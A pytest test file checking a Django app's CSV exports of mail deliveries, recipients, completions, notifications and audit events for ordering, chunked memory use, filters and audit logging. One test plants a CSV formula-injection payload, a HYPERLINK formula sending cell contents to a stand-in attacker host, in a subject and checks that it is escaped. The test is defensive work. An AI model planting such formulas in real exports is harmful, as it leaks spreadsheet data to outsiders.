"""Lists as CSV: whole, in order, harmless, and of no more than a chunk's memory."""

import csv
import io
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from notifications.downloads import csv_parts
from notifications.models import ApiToken, AuditEvent, Message, Recipient
from notifications.paging import in_chunks
from notifications.views import deliveries
from tests.base import a_completion, a_message, a_notification, administrator, viewer

BOM = "\ufeff"
FORMULA = tuple("=+-@＝＋－＠")


def read(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))


def bare(rows: list[list[str]]) -> list[list[str]]:
    """Without the sign that makes a formula a text."""
    return [[text.replace("'", "") for text in row] for row in rows]


@pytest.fixture
def vic(db: None) -> Client:
    client = Client()
    client.force_login(viewer())
    return client


def rows_of(client: Client, url: str) -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    head, *lines = read(b"".join(response).decode())
    return [dict(zip(head, line, strict=True)) for line in lines]


class TestCells:
    @given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=20))
    def test_come_back_as_they_were_and_never_as_a_formula(self, rows: list[list[str]]) -> None:
        columns = {"a": lambda row: row[0], "b": lambda row: row[1]}
        content = "".join(csv_parts(columns, [rows]))
        head, *lines = read(content)
        assert head == ["a", "b"]
        assert bare(lines) == bare(rows)
        # Where the comma is the decimal sign, the cells end at semicolons.
        elsewhere = csv.reader(io.StringIO(content, newline=""), delimiter=";")
        for cell in (cell for line in [*lines, *elsewhere] for cell in line):
            assert not cell.lstrip(" ").startswith(FORMULA)

    def test_tell_times_with_their_offset_and_switches_in_words(self) -> None:
        row = (datetime(2026, 5, 4, 12, tzinfo=UTC), True, None, -3)
        columns = {str(number): lambda row, number=number: row[number] for number in range(4)}
        assert read("".join(csv_parts(columns, [[row]])))[1] == ["2026-05-04 12:00:00+00:00", "yes", "", "-3"]


class TestChunks:
    @pytest.mark.django_db
    @pytest.mark.parametrize("size", [1, 2, 3, 4, 50])
    @pytest.mark.parametrize("key", ["-id", "id", "subject"])
    def test_are_all_rows_once_in_order(self, key: str, size: int) -> None:
        for number in range(4):
            message = a_message()
            Message.objects.filter(pk=message.pk).update(subject=f"{number}")
        found = [message.pk for chunk in in_chunks(Message.objects.all(), key=key, size=size) for message in chunk]
        assert found == list(Message.objects.order_by(key).values_list("pk", flat=True))

    def test_are_let_go_of_once_they_are_sent(self) -> None:
        def chunks(count: int) -> Iterator[list[str]]:
            for _ in range(count):
                yield ["x" * 1000 for _ in range(100)]

        def peak(count: int) -> int:
            tracemalloc.start()
            for _ in csv_parts({"a": str}, chunks(count)):
                pass
            size = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
            return size

        assert peak(200) < 2 * peak(3)


class TestDeliveries:
    def test_tell_what_the_list_tells(self, vic: Client) -> None:
        a_message("a@x.test", "b@x.test", completion=a_completion(), notification=a_notification(name="Rule"))
        (row,) = rows_of(vic, "/deliveries/csv/")
        assert (row["Subject"], row["State"], row["Notification"]) == ("7-Zip failed", "Queued", "Rule")
        assert (row["First recipient"], row["Recipients"], row["Accepted"]) == ("a@x.test", "2", "0")

    def test_keep_to_the_filter(self, vic: Client) -> None:
        mine, _other = a_message("a@x.test"), a_message("b@x.test")
        assert [row["Id"] for row in rows_of(vic, "/deliveries/csv/?recipient=a@x.test")] == [str(mine.uuid)]

    def test_hold_no_formula(self, vic: Client) -> None:
        message = a_message()
        Message.objects.filter(pk=message.pk).update(subject='=HYPERLINK("https://evil.test?"&A1)')
        assert rows_of(vic, "/deliveries/csv/")[0]["Subject"] == '\'=HYPERLINK("https://evil.test?"&A1)'

    def test_send_no_wrong_list_for_a_filter_that_cannot_be_read(self, vic: Client) -> None:
        assert vic.get("/deliveries/csv/?state=exploded")["Location"] == "/deliveries/?state=exploded"

    def test_are_written_down_with_what_they_hold(self, vic: Client) -> None:
        a_message("a@x.test")
        vic.get("/deliveries/csv/?recipient=a@x.test"), vic.get("/completions/csv/")
        told = [(str(event), event.actor_name) for event in AuditEvent.objects.order_by("id")]
        assert told == [
            ("List exported: deliveries, Recipient: a@x.test", "vic"),
            ("List exported: completions, all of them", "vic"),
        ]

    def test_say_how_many_rows_will_come(self, vic: Client) -> None:
        a_message("a@x.test"), a_message("b@x.test", "a@x.test"), a_message("b@x.test")
        assert vic.get("/deliveries/csv/?recipient=a@x.test")["X-Total-Count"] == "2"

    def test_bear_names_that_hint_at_files(self, vic: Client) -> None:
        name = vic.get("/deliveries/csv/")["Content-Disposition"]
        assert name.startswith('attachment; filename="deliveries-20')

    def test_hold_nothing_back_beyond_one_chunk(self, vic: Client) -> None:
        a_message()
        Message.objects.bulk_create(
            [Message(kind="test", subject=f"{number}", internet_message_id="", content=b"") for number in range(4500)]
        )
        assert len({row["Id"] for row in rows_of(vic, "/deliveries/csv/")}) == 4501


class TestRecipients:
    URL = "/deliveries/recipients/csv/"

    def test_have_a_line_each_with_outcome_and_reply(self, vic: Client) -> None:
        mail = a_message("a@x.test", "b@x.test")
        mail.recipients.filter(address="b@x.test").update(outcome="refused", code="550 5.1.1", text="=unknown")
        rows = {row["Recipient"]: row for row in rows_of(vic, self.URL)}
        assert rows.keys() == {"a@x.test", "b@x.test"}
        refused = rows["b@x.test"]
        assert (refused["Outcome"], refused["Code"], refused["Reply"]) == ("Refused", "550 5.1.1", "'=unknown")
        assert (refused["Id of the mail"], refused["Subject"], refused["Field"]) == (str(mail.uuid), mail.subject, "To")

    def test_are_those_of_the_mails_that_the_filter_shows(self, vic: Client) -> None:
        a_message("a@x.test", "b@x.test"), a_message("c@x.test")
        response = vic.get(f"{self.URL}?recipient=a@x.test")
        assert response["X-Total-Count"] == "2"
        assert len(read(b"".join(response).decode())) == 3

    def test_send_no_wrong_list_for_a_filter_that_cannot_be_read(self, vic: Client) -> None:
        assert vic.get(f"{self.URL}?state=exploded")["Location"] == "/deliveries/?state=exploded"

    def test_come_in_chunks_of_mails_and_of_recipients(self, vic: Client, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(deliveries, "MAILS_AT_ONCE", 2)
        mails = [a_message(*[f"{number}-{place}@x.test" for place in range(3)]) for number in range(5)]
        Recipient.objects.bulk_create(
            [Recipient(message=mails[0], address=f"{number}@many.test", field="cc") for number in range(4500)]
        )
        found = [row["Recipient"] for row in rows_of(vic, self.URL)]
        assert len(found) == len(set(found)) == 4515


def test_completions(vic: Client) -> None:
    a_completion({"PC-1": "failed", "PC-2": "success"}, name="Fire")
    a_completion(name="Water")
    (row,) = rows_of(vic, "/completions/csv/?text=fire")
    assert (row["Name"], row["Targets"], row["Outcome"]) == ("Fire", "2", "Failed")


def test_notifications(vic: Client) -> None:
    a_notification(name="B", to=["b@x.test", "c@x.test"], outcomes=["failed"])
    a_notification(name="A", enabled=False)
    first, second = rows_of(vic, "/notifications/csv/")
    assert (first["Name"], first["Enabled"]) == ("A", "no")
    assert (second["To"], second["Outcomes"], second["Enabled"]) == ("b@x.test; c@x.test", "Failed", "yes")


@pytest.mark.django_db
def test_the_audit_with_the_hash_of_each() -> None:
    client = Client()
    client.force_login(administrator())
    ApiToken.issue("=pdq")
    (row,) = rows_of(client, "/audit/csv/?action=token_made")
    event = AuditEvent.objects.get(action="token_made")
    assert (row["Number"], row["Hash"], row["About"]) == (str(event.pk), event.hash, f"'{event.subject}")
